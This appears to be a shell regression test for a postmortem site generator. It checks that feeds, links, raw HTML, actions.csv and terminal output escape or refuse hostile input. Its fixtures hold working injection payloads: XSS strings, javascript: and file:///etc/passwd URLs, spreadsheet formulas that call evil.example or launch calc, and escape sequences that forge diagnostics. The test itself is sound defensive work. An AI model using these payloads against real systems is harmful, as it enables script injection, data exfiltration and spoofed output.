# Injection into what readers open (issue 17, class 4): the feeds, URLs, actions.csv,
# the terminal, and raw HTML a site allows.  Every case failed on the binary before.
S="$T/inj"
mkdir -p "$S/postmortems"

# A site whose every value is hostile: markup, CDATA ends, entities, quotes, C0 controls.
hostile_site() {
	rm -rf "$S" && mkdir -p "$S/postmortems"
	cat > "$S/site.yaml" <<'YAML'
title: 'KB <script>alert("t")</script> ]]> & "q" ''a'' '
description: "desc \x01\x1f <b>&amp;</b> \uFFFE end"
severities: ['SEV<script>alert(1)</script>', "S2 ]]> & \"q\" 'a' \x01\x0b\x1f"]
services:
  '<script>svc</script>':
    description: 'd'
YAML
	cat > "$S/postmortems/a.md" <<'MD'
---
id: H-1
title: "T <script>alert(1)</script> ]]> & \"q\" 'a' \x01\x07\x1b[31m"
date: 2024-01-01
severity: 'SEV<script>alert(1)</script>'
summary: "S <img src=x onerror=alert(1)> ]]> \x02\x0c"
services: ['<script>svc</script>']
tags: ["tag <b>\x03 ]]>"]
contributing_factors: ["f \"q\" & <i>"]
---
Body.
MD
	cat > "$S/postmortems/b.md" <<'MD'
---
id: H-2
title: plain
date: 2024-01-02
severity: "S2 ]]> & \"q\" 'a' \x01\x0b\x1f"
---
Body.
MD
}

# xml_ok DIR: every .xml the build wrote is well-formed (xmllint) and has no script element.
xml_ok() {
	n=0
	for f in $(find "$1" -name '*.xml'); do
		n=$((n + 1))
		if xmllint --noout "$f" 2>"$T/xmllint"; then _pass; else _fail "$f is not well-formed: $(head -3 "$T/xmllint")"; fi
		assert_not_contains "$f" '<script'
	done
	assert_eq "$([ "$n" -ge 2 ] && echo yes)" yes "XML files in $1 (feed.xml, sitemap.xml)"
}

t_begin "feed.xml and sitemap.xml stay well-formed and escaped with hostile values in every field"
hostile_site
assert_exit 0 "$AFTERMATH" build "$S" -o "$T/feed1" --as-of 2026-01-01
xml_ok "$T/feed1"
assert_contains "$T/feed1/feed.xml" '<category term="SEV&lt;script&gt;alert(1)&lt;/script&gt;"/>'
assert_contains "$T/feed1/feed.xml" '<category term="S2 ]]&gt; &amp; &quot;q&quot; &#39;a&#39; "/>'

t_begin "the feeds stay well-formed with a hostile --base-url and in a public build"
assert_exit 0 "$AFTERMATH" build "$S" -o "$T/feed2" --as-of 2026-01-01 --base-url 'https://kb.example/a?b=1&c="<x>]]>'
xml_ok "$T/feed2"
assert_contains "$T/feed2/feed.xml" '<link href="https://kb.example/a?b=1&amp;c=&quot;&lt;x&gt;]]&gt;/"/>'
sed -i 's/^date: 2024-01-0\([12]\)$/date: 2024-01-0\1\nvisibility: public/' "$S/postmortems/a.md" "$S/postmortems/b.md"
assert_exit 0 "$AFTERMATH" build "$S" -o "$T/feed3" --as-of 2026-01-01 --profile public --base-url https://kb.example/
xml_ok "$T/feed3"

t_begin "the sample site's XML is well-formed"
assert_exit 0 "$AFTERMATH" build content -o "$T/sample" --as-of 2026-01-01 --base-url https://kb.example/
xml_ok "$T/sample"

# site_with_link URL: a site whose service has a link to URL (written as a YAML double-quoted string).
site_with_link() {
	rm -rf "$S" && mkdir -p "$S/postmortems"
	printf 'title: K\nservices:\n  api:\n    links:\n      - {title: Runbook, url: "%s"}\n' "$1" > "$S/site.yaml"
	printf -- '---\nid: U-1\ntitle: u\ndate: 2024-01-01\nservices: [api]\n---\nBody.\n' > "$S/postmortems/u.md"
}

t_begin "a service link with a script URL is an error at its place in site.yaml, in every spelling"
for url in 'javascript:alert(1)' ' JaVaScRiPt:alert(1)' 'java\tscript:alert(1)' '\x01javascript:alert(1)' \
	'data:text/html,<script>alert(1)</script>' 'vbscript:msgbox(1)' 'file:///etc/passwd' '&#106;avascript:alert(1)'; do
	site_with_link "$url"
	run "$AFTERMATH" build "$S" -o "$T/url-out" --as-of 2026-01-01
	assert_eq "$RC" 1 "exit for a service link to $url"
	assert_stderr_matches "site.yaml:5:[0-9]+: error: service link url \".*\" is not allowed \(expected an http, https or mailto URL, or a relative one\)"
	if grep -rqi 'href="[^"]*script:\|href="data:\|href="file:' "$T/url-out" 2>/dev/null; then _fail "script URL written for $url"; else _pass; fi
done

t_begin "allowed service links are kept"
for url in 'https://runbooks.example/x?a=1&b=2' 'mailto:oncall@example.com' '/docs/runbook/' 'HTTP://X.EXAMPLE/'; do
	site_with_link "$url"
	assert_exit 0 "$AFTERMATH" build "$S" -o "$T/url-ok" --as-of 2026-01-01
	assert_contains "$T/url-ok/services/api/index.html" "class=\"button-link\" href=\"$(printf '%s' "$url" | sed 's/&/\&amp;/g')\""
done

t_begin "a script base URL is refused from site.yaml and from --base-url"
site_with_link https://ok.example/
printf 'base_url: "javascript:alert(1)//"\n' >> "$S/site.yaml"
assert_exit 1 "$AFTERMATH" build "$S" -o "$T/base1" --as-of 2026-01-01
assert_stderr_matches 'site.yaml:6:11: error: base_url "javascript:alert\(1\)//" is not allowed'
site_with_link https://ok.example/
assert_exit 2 "$AFTERMATH" build "$S" -o "$T/base2" --as-of 2026-01-01 --base-url ' JAVASCRIPT:alert(1)//'
assert_stderr_contains 'is not allowed (expected an http, https or mailto URL, or a relative one)'
assert_no_file "$T/base2"

t_begin "a script link or image in a body is dropped with a warning at its file:line:col"
site_with_link https://ok.example/
printf -- '---\nid: U-2\ntitle: l\ndate: 2024-01-01\n---\nA [bad](JaVaScRiPt:alert(1)) link.\n\n  ![img](data:image/svg+xml,x) and [ok](https://ok.example/).\n' > "$S/postmortems/l.md"
assert_exit 0 "$AFTERMATH" build "$S" -o "$T/body" --as-of 2026-01-01
assert_stderr_contains "$S/postmortems/l.md:6:3: warning: link URL \"JaVaScRiPt:alert(1)\" dropped, its text kept"
assert_stderr_contains "$S/postmortems/l.md:8:3: warning: image URL \"data:image/svg+xml,x\" dropped, its alt text kept"
assert_not_contains "$T/body/postmortems/u-2/index.html" 'JaVaScRiPt:'
assert_contains "$T/body/postmortems/u-2/index.html" '<a href="https://ok.example/">ok</a>'

t_begin "actions.csv cells that a spreadsheet would run as a formula are neutralised"
rm -rf "$S" && mkdir -p "$S/postmortems"
cat > "$S/postmortems/c.md" <<'MD'
---
id: C-1
title: csv
date: 2024-01-01
action_items:
  - title: '=HYPERLINK("http://evil.example/?"&A1,"x")'
    owner: '+1+cmd|'' /C calc''!A0'
    ticket: '@SUM(1+1)*cmd|'' /C calc''!A0'
  - title: '-2+3'
    owner: "\tbob"
    ticket: "\r=1"
  - title: 'plain, with comma'
    owner: 'a-b'
---
Body.
MD
assert_exit 0 "$AFTERMATH" build "$S" -o "$T/csv" --as-of 2026-01-01
C="$T/csv/api/actions.csv"
assert_contains "$C" 'C-1,"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","'"'"'+1+cmd|'"'"' /C calc'"'"'!A0",'
assert_contains "$C" ',"'"'"'@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0",'
assert_contains "$C" "C-1,\"'-2+3\",\"'	bob\","
assert_contains "$C" "C-1,\"plain, with comma\",a-b,"
if awk -F, 'NR > 1 { for (i = 1; i <= NF; i++) if ($i ~ /^[=+@-]/) exit 1 }' "$C"; then _pass; else _fail "a cell starts with a formula character in $C"; fi

t_begin "diagnostics show control characters from content escaped, in every format"
rm -rf "$S" && mkdir -p "$S/postmortems"
printf -- '---\nid: "D-\\e[31mRED"\ntitle: "t\\e]0;pwned\\a\\nfake.md:1:1: error: forged"\ndate: 2024-01-01\nseverity: "SEV\\e[2J9\\u009b"\n---\nBody.\n' > "$S/postmortems/d.md"
for fmt in text json github; do
	run "$AFTERMATH" check "$S" --format "$fmt"
	assert_eq "$RC" 1 "exit of check --format $fmt"
	if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$ERR" "$OUT"; then _fail "a control character reached the terminal ($fmt)"; else _pass; fi
	if grep -q "$(printf '\302\233')" "$ERR" "$OUT"; then _fail "a C1 control reached the terminal ($fmt)"; else _pass; fi
	assert_eq "$(cat "$ERR" "$OUT" | grep -c 'x1b\[31mRED')" 1 "the id's escape shown once ($fmt)"
done
run "$AFTERMATH" check "$S"
assert_stderr_contains 'error: unknown severity "SEV\x1b[2J9\u009b"'

t_begin "markdown.unsafe_html keeps only allow-listed HTML"
rm -rf "$S" && mkdir -p "$S/postmortems"
printf 'title: K\nmarkdown:\n  unsafe_html: true\n' > "$S/site.yaml"
cat > "$S/postmortems/h.md" <<'MD'
---
id: R-1
title: raw
date: 2024-01-01
---
Text <b onclick="alert(1)">b</b> <a href="javascript:alert(1)">j</a> <a href=" JaVa&#x09;script:alert(1)">k</a> <a href="&#106;avascript:alert(1)">l</a>

<div><img src=x onerror=alert(1)><object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/"></div>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<form action="https://evil.example/"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>

<svg onload=alert(1)><a xlink:href="javascript:alert(1)">s</a></svg> <details open ontoggle=alert(1)><summary>more</summary>kept</details>

<p style="position:fixed;top:0" id="ok">styled</p> <a href="https://ok.example/" target="_blank">ok</a>
MD
assert_exit 0 "$AFTERMATH" build "$S" -o "$T/raw" --as-of 2026-01-01
H="$T/raw-body.html" # the body only (the theme has its own search form and svg)
sed -n '/class="prose pm-body"/,/<\/article>/p' "$T/raw/postmortems/r-1/index.html" > "$H"
assert_contains "$H" 'pm-body'
for bad in 'onclick' 'onerror' 'onload' 'ontoggle' 'javascript:' '<object' '<embed' '<base' 'http-equiv' '<form' \
	'<input name' 'formaction' '<svg' 'style="position' 'target='; do
	assert_not_contains "$H" "$bad"
done
assert_contains "$H" '<details open><summary>more</summary>kept</details>'
assert_contains "$H" '<p id="ok">styled</p> <a href="https://ok.example/">ok</a>'
assert_stderr_contains "$S/postmortems/h.md:8:1: warning: raw HTML <object> dropped with its content"
assert_stderr_contains "$S/postmortems/h.md:6:34: warning: raw HTML href \"javascript:alert(1)\" on <a> dropped"

t_begin "too much raw HTML is an error, quickly"
{ printf -- '---\nid: R-2\ntitle: many\ndate: 2024-01-01\n---\n'; i=0; while [ $i -lt 1500 ]; do printf '<b a=%d><i b=%d><div c=%d><p d=%d>' $i $i $i $i; i=$((i + 1)); done; echo x; } > "$S/postmortems/many.md"
assert_exit 1 timeout 60 "$AFTERMATH" build "$S" -o "$T/raw2" --as-of 2026-01-01
assert_stderr_matches "many.md:6:[0-9]+: error: more than 5000 tags of raw HTML; the rest of it is dropped"

t_begin "aftermath stats shows control characters in names escaped"
rm -rf "$S" && mkdir -p "$S/postmortems"
printf -- '---\nid: S-1\ntitle: s\ndate: 2024-01-01\nservices: ["svc\\e[2Jx"]\ncontributing_factors: ["fac\\u009b1m\\a"]\n---\nb\n' > "$S/postmortems/s.md"
assert_exit 0 "$AFTERMATH" stats "$S" --as-of 2026-01-01
if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$OUT"; then _fail "a control character reached the terminal"; else _pass; fi
assert_stdout_contains 'svc\x1b[2Jx'
assert_stdout_contains 'fac\u009b1m\x07'
if grep -q "$(printf '\302\233')" "$OUT"; then _fail "a C1 control reached the terminal"; else _pass; fi
